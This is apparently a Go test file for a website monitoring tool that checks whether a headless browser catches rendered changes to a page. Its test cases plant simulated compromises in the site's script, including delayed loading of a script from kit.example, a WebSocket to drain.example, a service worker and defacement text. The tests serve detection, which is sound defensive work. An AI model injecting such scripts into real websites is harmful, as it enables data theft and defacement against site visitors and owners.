package web

import (
	"context"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/kedge-project/kedge/internal/browser"
)

const plainFront = `<!doctype html><html><head><title>Maritime Office</title><link rel="stylesheet" href="/css/site.css"></head><body>
<img src="/img/hero.svg" width="1280" height="700" alt="The building"><h1>Welcome</h1>
<p>The organisation sets standards for the safety, security and environmental performance of international shipping.</p>
<p>Visitors: NUMBER</p><script src="/js/site.js"></script></body></html>`

const hero = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" preserveAspectRatio="none"><rect width="100" height="100" fill="COLOUR"/></svg>`

func newPlainScene() *scene {
	s := newScene()
	s.page = func(*http.Request) string { return plainFront }
	s.headers = map[string]string{}
	s.files = map[string]string{
		"/js/site.js": "document.title += ''", "/css/site.css": "body { margin: 0; background: #eef }", "/img/hero.svg": strings.Replace(hero, "COLOUR", "seagreen", 1),
		"/w.js": "self.onmessage = function () {}",
	}
	return s
}

// TestWhatABrowserSeesIsCompared is of changes that the page's own text does not show.
func TestWhatABrowserSeesIsCompared(t *testing.T) {
	s := newPlainScene()
	server := httptest.NewServer(s)
	defer server.Close()
	own := strings.TrimPrefix(server.URL, "http://")
	b, err := browser.Start(t.Context(), browser.Options{Allowed: func(address string) bool { return address == own }})
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := b.Close(); err != nil {
			t.Error(err)
		}
	}()
	p := NewPages("website", []string{server.URL + "/"}, nil)
	p.Render(b)
	if err := p.Approve(context.Background()); err != nil {
		t.Fatal(err)
	}
	// late is what a compromised script of the page's own does when it has waited.
	late := func(code string) func() {
		return func() { s.files["/js/site.js"] = "setTimeout(function () {" + code + "}, 3000)" }
	}
	for _, c := range []struct {
		name, what, kind string
		do               func()
	}{
		{"other news", "", "", func() {
			s.page = func(*http.Request) string {
				return strings.Replace(plainFront, "international shipping.", "international shipping, in London and online.", 1)
			}
		}},
		{"a script that is loaded late", "request", injected, late(`var s=document.createElement("script");s.src="https://kit.example/a.js";document.body.appendChild(s)`)},
		{"a socket that is opened late", "request", injected, late(`new WebSocket("wss://drain.example/in");document.body.insertAdjacentHTML("beforeend","<iframe src='https://kit.example/f'></iframe>")`)},
		{"a service worker", "service worker", injected, late(`navigator.serviceWorker.register("/w.js")`)},
		{"the text replaced late", "text", defaced, late(`document.title="0wned";document.body.innerHTML="<h1>Hacked by the Sea Crew</h1>"`)},
		{"a boast in a dialog", "dialog", defaced, late(`alert("Hacked by the Sea Crew")`)},
		{"another picture under the same name", "picture", defaced, func() { s.files["/img/hero.svg"] = strings.Replace(hero, "COLOUR", "black", 1) }},
		{"all painted over", "picture", defaced, func() { s.files["/css/site.css"] = "body { margin: 0; background: #300 } * { visibility: hidden }" }},
	} {
		t.Run(c.name, func(t *testing.T) {
			fresh := newPlainScene()
			s.page, s.files = fresh.page, fresh.files
			c.do()
			diff, err := p.Diff(context.Background())
			if err != nil || len(diff.Unread) > 0 {
				t.Fatalf("not compared: %v %v", err, diff.Unread)
			}
			page := diff.Pages[0]
			differences := slices.DeleteFunc(slices.Clone(page.Differences), func(d Difference) bool { return !d.Rendered })
			told := slices.ContainsFunc(differences, func(d Difference) bool { return d.What == c.what })
			if c.what == "" && len(page.Differences) > 0 {
				t.Errorf("told %v, want nothing", page.Differences)
			}
			if c.what != "" && (!told || page.Kind != c.kind) {
				t.Errorf("told as %q %v, want %s by a difference of %s that the browser saw", page.Kind, page.Differences, c.kind, c.what)
			}
		})
	}
}
